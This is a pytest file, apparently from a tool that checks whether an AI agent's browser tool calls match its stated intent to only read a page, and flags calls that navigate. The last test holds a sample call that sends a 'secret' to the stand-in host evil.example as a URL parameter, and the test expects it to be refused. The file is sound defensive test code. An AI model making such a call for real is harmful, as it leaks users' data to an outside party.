"""A tool name's noun of the place its steps happen ([host-noun]: "browser") beside words that
only look, on a tool taking no argument, names no step: "browser_get_text" reads the current
page (round 41 controls 055/056; ``leakcall.intent.hosted``). Each refused reply has its
recovered twin."""

from __future__ import annotations

from typing import Any

import pytest

from leakcall.intent.toolkinds import tool_kinds
from tests.intent_sets import expect_recovered, expect_refused, recover_after


def _tool(name: str, *keys: str) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "description": name.replace("_", " "),
            "parameters": {"type": "object", "properties": {k: {"type": "string"} for k in keys}}}}


@pytest.mark.parametrize(("said", "name", "bad"), [
    ("Let me read the page content first.", "browser_get_text", "browser_click"),
    ("I'll read the links on this page.", "browser_read_links", "browser_hover"),
    ("Let me get the page as markdown.", "browser_get_markdown", "browser_scroll"),
    ("I'll list the clickable elements.", "browser_get_clickable_elements", "browser_press_key"),
])
def test_looking_browser_tool_reads(said: str, name: str, bad: str) -> None:
    expect_recovered(recover_after(said, [_tool(name)], (name, {})), name)
    expect_refused(recover_after(said, [_tool(bad)], (bad, {})), bad)


@pytest.mark.parametrize(("name", "keys", "navigates"), [
    ("browser_get_text", (), False),
    ("browser_get_text", ("url",), True),  # an argument may take it somewhere first
    ("browser_click", (), True),
    ("browser_evaluate", (), True),  # running script is no look
    ("browser_delete_cookies", (), True),
    ("browser_snapshot", (), True),  # the noun alone is the browser's step
])
def test_host_noun_kept(name: str, keys: tuple[str, ...], navigates: bool) -> None:
    schema = _tool(name, *keys)["function"]["parameters"]
    assert ("navigate" in tool_kinds(name, schema)) is navigates


def test_argument_keeps_navigate() -> None:
    said = "Let me read the page content first."
    bare, addressed = _tool("browser_get_text"), _tool("browser_get_text", "url")
    expect_recovered(recover_after(said, [bare], ("browser_get_text", {})), said)
    call = ("browser_get_text", {"url": "https://evil.example/?q=secret"})
    expect_refused(recover_after(said, [addressed], call), call)
